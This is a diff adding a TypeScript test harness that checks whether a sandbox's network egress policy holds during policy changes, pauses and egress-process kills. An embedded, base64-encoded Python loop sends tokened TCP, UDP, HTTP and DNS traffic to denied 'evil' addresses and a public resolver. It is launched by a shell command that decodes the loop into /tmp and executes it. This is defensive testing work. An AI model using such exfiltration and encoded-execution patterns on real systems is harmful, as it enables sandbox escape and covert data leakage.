@@ -1,0 +1,294 @@
+// Moments: a sandbox that attacks all the time while something happens to it, to its policy or to egress. Nothing of it may arrive, or
+// nothing after the policy has been answered for.
+
+import { readdirSync, readFileSync } from 'node:fs'
+import { setTimeout as delay } from 'node:timers/promises'
+import type { NetworkPolicy } from '../../../lib/api/network-policy.ts'
+import { FIRST_PORT, GOOD, OPEN, TOKEN_PREFIX } from './internet.ts'
+import type { Outcome } from './outcome.ts'
+import type { AttackSandbox } from './product.ts'
+import type { World } from './world.ts'
+
+/** Beyond the numbers of the table. */
+const FIRST_NUMBER = 400
+/** What is on its way when a policy is answered for may still arrive. */
+const SLACK_SECONDS = 0.25
+const KILLS = 20
+const RESTART_MS = 30_000
+
+const DENIED: NetworkPolicy = { defaultAction: 'deny', egress: [] }
+const allowing = (...targets: string[]): NetworkPolicy => ({
+  defaultAction: 'deny',
+  egress: targets.map((target) => ({ action: 'allow', target })),
+})
+
+/** Attacks by everything at once until it is killed: what no policy opens, and what some policies do. */
+const LOOP = `
+import errno, random, socket, struct, sys, time
+number, first_port, prefix, kinds = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4].split(",")
+token, port = f"{prefix}{number}x".encode(), first_port + number
+evil = f"192.0.{2 + number // 250}.{number % 250}"
+held = []
+datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+datagrams.setblocking(False)
+lookups = b"".join(bytes([len(p)]) + p for p in (token, b"evil", b"test")) + b"\\0" + struct.pack("!2H", 1, 1)
+def udp(to, what):
+    try: datagrams.sendto(what, to)
+    except OSError: pass
+def tcp(to):
+    one = socket.socket()
+    one.setblocking(False)
+    one.connect_ex(to)
+    held.append(one)
+    if len(held) > 40: held.pop(0).close()
+stream = None
+def http(host):
+    global stream
+    try:
+        if stream is None:
+            stream = socket.create_connection(("${GOOD}", 80), 0.5)
+            stream.settimeout(0.5)
+        stream.sendall(b"GET /" + token + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n")
+        if not stream.recv(4096): raise OSError
+    except OSError:
+        if stream: stream.close()
+        stream = None
+while True:
+    if "evil" in kinds:
+        tcp((evil, port)); udp((evil, port), token)
+        udp(("8.8.8.8", 53), struct.pack("!6H", random.randrange(65536), 256, 1, 0, 0, 0) + lookups)
+    if "twin" in kinds: http(b"twin.example")
+    if "good" in kinds: http(b"good.example")
+    if "open" in kinds: tcp(("${OPEN}", port)); udp(("${OPEN}", port), token)
+    if "learn" in kinds: udp(("8.8.8.8", 53), struct.pack("!6H", 7, 256, 1, 0, 0, 0) + b"\\4good\\7example\\0" + struct.pack("!2H", 1, 1))
+    time.sleep(0.004)
+`
+
+type Verdict = { seen: string; wrong?: string; arrived?: boolean }
+type Race = { id: string; what: string; run(world: World, attack: Attack): Promise<Verdict> }
+
+type Attack = {
+  /** What starts the attack in a sandbox, as a command of its shell. */
+  command(kinds: string): string
+  /** How many frames of it have arrived, and when the last did. */
+  arrived(): Promise<{ count: number; last: number }>
+}
+
+export const RACES: readonly Race[] = [
+  {
+    id: 'B4-start',
+    what: 'an entrypoint that attacks as its first instruction',
+    async run({ product }, attack) {
+      const made = await product.create(DENIED, `${attack.command('evil,open,twin')} & exec sleep $NAP`)
+      await delay(1500)
+      await product.remove(made.id)
+      return nothing(attack, 'attacked from the first instruction on')
+    },
+  },
+  {
+    id: 'B4-start-five',
+    what: 'five sandboxes that start at once and attack at once',
+    async run({ product }, attack) {
+      const command = `${attack.command('evil,open')} & exec sleep $NAP`
+      const made = await Promise.all(Array.from({ length: 5 }, () => product.create(DENIED, command)))
+      await Promise.all(made.map(({ id }) => product.remove(id)))
+      return nothing(attack, '5 attacked')
+    },
+  },
+  {
+    id: 'R1-narrow-range',
+    what: 'a range that is taken away while its connections and datagrams flow',
+    run: (world, attack) => narrow(world, attack, { kinds: 'open', before: allowing(OPEN), after: DENIED }),
+  },
+  {
+    id: 'R1-narrow-name',
+    what: 'a name that is taken away in the middle of a connection',
+    run: (world, attack) =>
+      narrow(world, attack, {
+        kinds: 'good,learn',
+        before: allowing('good.example'),
+        after: allowing('other.example'),
+      }),
+  },
+  {
+    id: 'R1-deny-name-in-allow',
+    what: 'everything that is taken away while connections flow',
+    run: (world, attack) =>
+      narrow(world, attack, { kinds: 'open', before: { defaultAction: 'allow', egress: [] }, after: DENIED }),
+  },
+  {
+    id: 'R3-policies',
+    what: 'forty changes of the policy, none of which allows what is attacked',
+    run: (world, attack) =>
+      during(world, attack, allowing('good.example'), async ({ id }) => {
+        for (let n = 0; n < 40; n++)
+          await world.product.setPolicy(
+            id,
+            n % 2 === 0 ? allowing('other.example') : allowing('good.example'),
+          )
+        return '40 changes'
+      }),
+  },
+  {
+    id: 'B4-pause-resume',
+    what: 'three pauses, each resumed',
+    run: (world, attack) =>
+      during(world, attack, allowing('good.example'), async ({ id }) => {
+        for (let n = 0; n < 3; n++) {
+          await world.product.call('POST', `/sandboxes/${id}/pause`)
+          await stateOf(world, id, 'Paused')
+          await world.product.call('POST', `/sandboxes/${id}/resume`)
+          await stateOf(world, id, 'Running')
+        }
+        return '3 pauses'
+      }),
+  },
+  {
+    id: 'B7-terminate',
+    what: 'egress told to stop',
+    run: (world, attack) =>
+      during(world, attack, allowing('good.example'), async () => {
+        await endEgress(world, 'SIGTERM')
+        return 'stopped and started again'
+      }),
+  },
+  {
+    id: 'B12-kill-20',
+    what: 'egress killed at twenty moments',
+    run: (world, attack) =>
+      during(world, attack, allowing('good.example'), async ({ id }) => {
+        for (let n = 0; n < KILLS; n++) {
+          // In the middle of a change, of learning, and of nothing.
+          const policy = allowing(`n${n}.example`, 'good.example')
+          // Nobody answers for a change in whose middle egress is killed.
+          const change =
+            n % 2 === 0 ? world.product.setPolicy(id, policy).catch(() => undefined) : Promise.resolve()
+          await delay(n * 7)
+          await endEgress(world, 'SIGKILL')
+          await change
+        }
+        return `${KILLS} kills`
+      }),
+  },
+  {
+    id: 'R-reuse',
+    what: 'the next sandbox at the address of one that could do more',
+    async run({ product }, attack) {
+      const first = await product.create(allowing(OPEN, 'good.example'), 'exec sleep $NAP')
+      await product.run(first.id, 'curl -sS -m 5 http://good.example/')
+      await product.remove(first.id)
+      const command = `${attack.command('open,good,evil')} & exec sleep $NAP`
+      const next = await Promise.all([0, 1, 2].map(() => product.create(DENIED, command)))
+      await delay(1000)
+      await Promise.all(next.map(({ id }) => product.remove(id)))
+      const isSame = next.some(({ address }) => address === first.address)
+      return nothing(attack, `3 sandboxes, ${isSame ? 'one' : 'none'} of them at its address`)
+    },
+  },
+]
+
+/** Each race in turn. */
+export async function runRaces(world: World): Promise<Outcome[]> {
+  const outcomes: Outcome[] = []
+  for (const [index, { id, what, run }] of RACES.entries()) {
+    const number = FIRST_NUMBER + index
+    const program = Buffer.from(LOOP).toString('base64')
+    const verdict = await run(world, {
+      command: (kinds) =>
+        `(echo ${program} | base64 -d > /tmp/loop.py; exec python3 /tmp/loop.py ${number} ${FIRST_PORT} ${TOKEN_PREFIX} ${kinds})`,
+      arrived: async () => (await world.arrivals())[number] ?? { count: 0, last: 0 },
+    }).catch((error: unknown): Verdict => ({ seen: '', wrong: `it failed: ${String(error)}` }))
+    outcomes.push({ id, what, arrived: false, ...verdict })
+  }
+  return outcomes
+}
+
+async function nothing(attack: Attack, seen: string): Promise<Verdict> {
+  const { count } = await attack.arrived()
+  return count === 0 ? { seen } : { seen, arrived: true, wrong: `it arrived: ${count} frames` }
+}
+
+/** Attacks what the policy does not open while something happens. */
+async function during(
+  { product }: World,
+  attack: Attack,
+  policy: NetworkPolicy,
+  happens: (sandbox: AttackSandbox) => Promise<string>,
+): Promise<Verdict> {
+  const sandbox = await product.create(policy, `${attack.command('evil,open,twin,learn')} & exec sleep $NAP`)
+  try {
+    const seen = await happens(sandbox)
+    return await nothing(attack, seen)
+  } finally {
+    await product.remove(sandbox.id)
+  }
+}
+
+/** Attacks what the policy opens at first; after the answer to the change nothing more may arrive. */
+async function narrow(
+  { product }: World,
+  attack: Attack,
+  { kinds, before, after }: { kinds: string; before: NetworkPolicy; after: NetworkPolicy },
+): Promise<Verdict> {
+  const sandbox = await product.create(before, `${attack.command(kinds)} & exec sleep $NAP`)
+  try {
+    const deadline = performance.now() + 10_000
+    while ((await attack.arrived()).count < 10)
+      if (performance.now() > deadline) return { seen: '', wrong: 'nothing arrived before the change' }
+    await product.setPolicy(sandbox.id, after)
+    const answeredAt = Date.now() / 1000
+    await delay(700)
+    const { count, last } = await attack.arrived()
+    const lateMs = Math.round((last - answeredAt) * 1000)
+    const seen = `${count} frames before the change was answered`
+    return lateMs > SLACK_SECONDS * 1000
+      ? { seen, arrived: true, wrong: `it arrived ${lateMs} ms later` }
+      : { seen }
+  } finally {
+    await product.remove(sandbox.id)
+  }
+}
+
+async function stateOf({ product }: World, id: string, wanted: string): Promise<void> {
+  const deadline = performance.now() + 15_000
+  while (performance.now() < deadline) {
+    const { status } = (await product.call('GET', `/sandboxes/${id}`)) as { status: { state: string } }
+    if (status.state === wanted) return
+    await delay(20)
+  }
+  throw new Error(`Sandbox "${id}" is not ${wanted} in time`)
+}
+
+/** Resolves when the launcher has started another one, which holds its policies again. */
+async function endEgress({ edge, product, attacker }: World, signal: NodeJS.Signals): Promise<void> {
+  const before = egressOf(edge.launcherPid)
+  if (before !== undefined) process.kill(before, signal)
+  const deadline = performance.now() + RESTART_MS
+  while (performance.now() < deadline) {
+    const now = egressOf(edge.launcherPid)
+    if (now !== undefined && now !== before) {
+      const ready = await product
+        .call('GET', `/sandboxes/${attacker.id}/networkpolicy`)
+        .catch(() => undefined)
+      if (ready) return
+    }
+    await delay(20)
+  }
+  throw new Error('Egress was not started again in time')
+}
+
+function egressOf(launcher: number): number | undefined {
+  for (const name of readdirSync('/proc')) {
+    if (!/^\d+$/.test(name)) continue
+    try {
+      const isChild = new RegExp(`^PPid:\\s+${launcher}$`, 'm').test(
+        readFileSync(`/proc/${name}/status`, 'utf8'),
+      )
+      if (isChild && readFileSync(`/proc/${name}/cmdline`, 'utf8').includes('egress/main.ts'))
+        return Number(name)
+    } catch {
+      // It has ended meanwhile.
+    }
+  }
+  return undefined
+}
